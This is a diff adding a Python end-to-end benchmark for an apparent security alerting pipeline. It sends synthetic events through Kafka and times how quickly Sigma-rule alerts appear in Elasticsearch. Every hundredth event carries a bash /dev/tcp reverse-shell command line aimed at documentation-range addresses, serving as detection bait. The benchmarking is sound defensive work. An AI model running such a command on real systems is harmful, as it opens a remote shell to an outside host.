@@ -1,0 +1,144 @@
+"""End to end: an event produced to Kafka → its alert searchable in Elasticsearch, at a steady rate.
+
+One real collector process (the project's rules) on the local test stack; events are produced at
+``RATE`` per second for ``SECONDS``, one in ``ALERT_EVERY`` of them a reverse-shell command line that the
+rules must alert on. A poller searches the alerts index every 100 ms; an alert's latency is the time from
+its event's send to the first search that returns it. Figures: e2e_latency_p50_s, e2e_latency_p99_s,
+e2e_events_per_s (the rate actually produced), e2e_alerts_found / e2e_alerts_expected.
+"""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import os
+import statistics
+import subprocess
+import sys
+import tempfile
+import time
+from pathlib import Path
+
+from aiokafka import AIOKafkaProducer
+
+REPO = Path(__file__).resolve().parents[1]
+sys.path.insert(0, str(REPO))
+
+from tests.integration.collector_harness import CollectorRun  # noqa: E402
+from tests.support.events import encoded, process_exec  # noqa: E402
+
+RATE = int(os.environ.get("CANHGAC_BENCH_E2E_RATE", "2000"))
+SECONDS = int(os.environ.get("CANHGAC_BENCH_E2E_SECONDS", "20"))
+ALERT_EVERY = 100
+
+
+def stack_connection() -> dict[str, str]:
+    out = subprocess.run(
+        [sys.executable, str(REPO / "deploy" / "stack" / "stack.py"), "up", "--name", "test", "--json"],
+        check=True,
+        capture_output=True,
+        text=True,
+    ).stdout
+    return dict(json.loads(out))
+
+
+async def produce(run: CollectorRun, sent: dict[str, float]) -> float:
+    producer = AIOKafkaProducer(
+        bootstrap_servers=run.kafka_bootstrap, acks="all", enable_idempotence=True, linger_ms=2
+    )
+    await producer.start()
+    started = time.monotonic()
+    total = RATE * SECONDS
+    try:
+        for n in range(total):
+            if n % ALERT_EVERY == 0:
+                event = process_exec(
+                    "/bin/bash", f"bash -c 'sh -i >& /dev/tcp/192.0.2.{n % 250}/4444 0>&1' #{n}"
+                )
+            else:
+                event = process_exec("/usr/bin/php-fpm", f"php-fpm: pool www #{n}")
+            value = encoded(event)
+            await producer.send(run.events_topic, value=value, key=event["host"]["id"].encode())
+            if n % ALERT_EVERY == 0:
+                sent[event["event"]["id"]] = time.monotonic()
+            ahead = started + (n + 1) / RATE - time.monotonic()
+            if ahead > 0:
+                await asyncio.sleep(ahead)
+        await producer.flush()
+    finally:
+        await producer.stop()
+    return total / (time.monotonic() - started)
+
+
+async def poll(
+    run: CollectorRun, sent: dict[str, float], seen: dict[str, float], done: asyncio.Event
+) -> None:
+    from elasticsearch import ApiError, AsyncElasticsearch
+    from elasticsearch import ConnectionError as EsConnectionError
+
+    async with AsyncElasticsearch(run.es_url) as client:
+        while not done.is_set() or len(seen) < len(sent):
+            pending = [event_id for event_id in sent if event_id not in seen]
+            if pending:
+                try:
+                    response = await client.search(
+                        index=f"{run.prefix}alerts-*",
+                        query={"terms": {"canhgac.alert.event_ids": pending[:1000]}},
+                        size=1000,
+                        source=["canhgac.alert.event_ids"],
+                        allow_no_indices=True,
+                        ignore_unavailable=True,
+                    )
+                except (ApiError, EsConnectionError):  # a new index's shard is not searchable yet
+                    await asyncio.sleep(0.1)
+                    continue
+                now = time.monotonic()
+                for hit in response["hits"]["hits"]:
+                    for event_id in hit["_source"]["canhgac"]["alert"]["event_ids"]:
+                        seen.setdefault(event_id, now)
+            await asyncio.sleep(0.1)
+
+
+async def measure(results: dict[str, float]) -> None:
+    connection = stack_connection()
+    with tempfile.TemporaryDirectory() as workdir:
+        run = CollectorRun(
+            connection["kafka_bootstrap"], connection["es_url"], REPO / "rules" / "sigma", Path(workdir)
+        )
+        await run.create_topics(partitions=6)
+        run.start_collector()
+        try:
+            await asyncio.sleep(8)  # join the group before the clock starts
+            sent: dict[str, float] = {}
+            seen: dict[str, float] = {}
+            done = asyncio.Event()
+            poller = asyncio.create_task(poll(run, sent, seen, done))
+            rate = await produce(run, sent)
+            done.set()
+            try:
+                await asyncio.wait_for(poller, timeout=60)
+            except TimeoutError:
+                print("  some alerts never became searchable within 60 s after the last send")
+            latencies = sorted(seen[event_id] - sent[event_id] for event_id in seen)
+        finally:
+            run.stop_all()
+    results["e2e_events_per_s"] = round(rate, 1)
+    results["e2e_alerts_expected"] = float(len(sent))
+    results["e2e_alerts_found"] = float(len(latencies))
+    if latencies:
+        results["e2e_latency_p50_s"] = round(statistics.median(latencies), 3)
+        results["e2e_latency_p99_s"] = round(
+            latencies[min(len(latencies) - 1, int(len(latencies) * 0.99))], 3
+        )
+    print(f"  produced {rate:.0f} events/s; alerts {len(latencies)}/{len(sent)}")
+    print(f"  latency p50 {results.get('e2e_latency_p50_s')} s, p99 {results.get('e2e_latency_p99_s')} s")
+
+
+def run(results: dict[str, float]) -> None:
+    asyncio.run(measure(results))
+
+
+if __name__ == "__main__":
+    figures: dict[str, float] = {}
+    run(figures)
+    print(json.dumps(figures, indent=2))
